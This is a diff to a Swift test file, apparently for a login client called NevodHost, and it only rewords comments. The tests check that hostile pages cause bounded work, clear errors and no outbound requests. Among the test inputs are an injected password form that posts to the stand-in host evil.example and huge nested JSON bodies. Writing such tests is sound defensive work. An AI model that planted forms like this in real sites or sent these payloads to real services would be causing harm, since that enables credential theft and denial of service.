@@ -5,7 +5,7 @@ import Testing
 @testable import NevodHost
 @testable import NevodHostTestSupport
 
-/// Tests pages and answers that are made to do harm: each ends in bounded work and a clear error, and nothing is sent elsewhere.
+/// Tests malicious pages and responses. Each causes limited work and a clear error, and nothing is sent elsewhere.
 struct HostilePageTests {
     private static let cookie = "Set-Cookie: sid=1; Path=/"
     private static let form = "<form method=post><input name=username><input type=password name=password></form>"
@@ -57,7 +57,7 @@ struct HostilePageTests {
         #expect(server.requests.map(\.line) == ["GET /login"], "\(failure.message)")
     }
 
-    /// An injected form has the same field; the login's has the user name's as well.
+    /// An injected form has the same field, but only the login's form also has the user name's.
     @Test func `A form that isn't the login's is not taken for it`() async throws {
         let injected = "<form action=//evil.example><input name=password><input type=hidden name=evil value=1></form>"
         let server = try ScriptedServer { request in
@@ -95,7 +95,7 @@ struct HostilePageTests {
         #expect(server.requests.count <= 2)
     }
 
-    /// The body has no end, and the connection stays open.
+    /// The body never ends, and the connection stays open.
     @Test(arguments: [true, false])
     func `A login page that never ends is given up`(isFast: Bool) async throws {
         let isDone = Latch()
@@ -154,7 +154,7 @@ struct HostilePageTests {
         #expect(server.requests.count == 1)
     }
 
-    // How the work for answers like these grows is measured by ServerWordsReaderTests, HTMLPageTests and PatternTests.
+    // ServerWordsReaderTests, HTMLPageTests and PatternTests measure how the work for such responses grows.
     @Test(arguments: [
         #"{"errors":[\#(String(repeating: #"{"a":1},"#, count: 20_000))0]}"#,
         "{" + (0..<12_000).map { #""k\#($0)":{}"# }.joined(separator: ",") + "}",
